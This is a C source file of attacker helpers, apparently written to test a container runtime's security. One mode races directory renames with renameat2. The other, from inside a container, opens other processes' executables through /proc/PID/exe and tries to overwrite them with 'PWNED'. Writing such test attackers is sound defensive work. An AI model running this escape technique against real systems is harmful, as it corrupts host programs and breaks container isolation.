// SPDX-License-Identifier: Apache-2.0
/*
 * The attackers of the security tests.
 *
 *   attack exchange A B
 *     Exchanges two names of a directory as fast as it can, until it is killed.
 *
 *   attack overwrite
 *     In a container: tries to get at the program of every other process through /proc/PID/exe, to
 *     hold it until nobody runs it any more, and to write into it. Ends when /stop is there, and
 *     prints how many programs of others it got at, how many of those it could write, and how often
 * it tried.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif
#define HELD_MAX 64

static int exchange(const char *one, const char *other)
{
    for (;;) {
        if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0) {
            perror("renameat2");
            return 1;
        }
    }
}

struct loot {
    unsigned long reached, written, tried;
    int held[HELD_MAX];
    unsigned count;
};

/* A held program is busy (ETXTBSY) as long as it runs anywhere. */
static void write_held(struct loot *loot)
{
    for (unsigned i = 0; i < loot->count; i++) {
        char path[64];
        snprintf(path, sizeof(path), "/proc/self/fd/%d", loot->held[i]);
        int fd = open(path, O_WRONLY);
        loot->tried++;
        if (fd < 0)
            continue;
        if (pwrite(fd, "PWNED", 5, 0) == 5)
            loot->written++;
        close(fd);
    }
}

/* What the container runs itself is no loot; the host's files may be on the same device. */
static bool is_own(const struct stat *found)
{
    static const char *const names[] = {"/proc/self/exe", "/bin/busybox"};
    for (unsigned i = 0; i < sizeof(names) / sizeof(*names); i++) {
        struct stat own;
        if (stat(names[i], &own) == 0 && own.st_dev == found->st_dev && own.st_ino == found->st_ino)
            return true;
    }
    return false;
}

static void take(struct loot *loot, const char *pid)
{
    char path[300];
    struct stat st;
    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
    int fd = open(path, O_RDONLY);
    loot->tried++;
    if (fd < 0)
        return;
    if (fstat(fd, &st) < 0 || is_own(&st)) {
        close(fd);
        return;
    }
    loot->reached++;
    if (loot->count == HELD_MAX)
        close(loot->held[--loot->count]);
    loot->held[loot->count++] = fd;
}

static int overwrite(void)
{
    struct loot loot = {0};
    while (access("/stop", F_OK) < 0) {
        DIR *processes = opendir("/proc");
        if (processes == NULL)
            return 1;
        for (const struct dirent *entry; (entry = readdir(processes)) != NULL;) {
            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
                take(&loot, entry->d_name);
        }
        closedir(processes);
        write_held(&loot);
    }
    printf("%lu %lu %lu\n", loot.reached, loot.written, loot.tried);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 4 && strcmp(argv[1], "exchange") == 0)
        return exchange(argv[2], argv[3]);
    if (argc == 2 && strcmp(argv[1], "overwrite") == 0)
        return overwrite();
    fprintf(stderr, "usage: see attack.c\n");
    return 2;
}
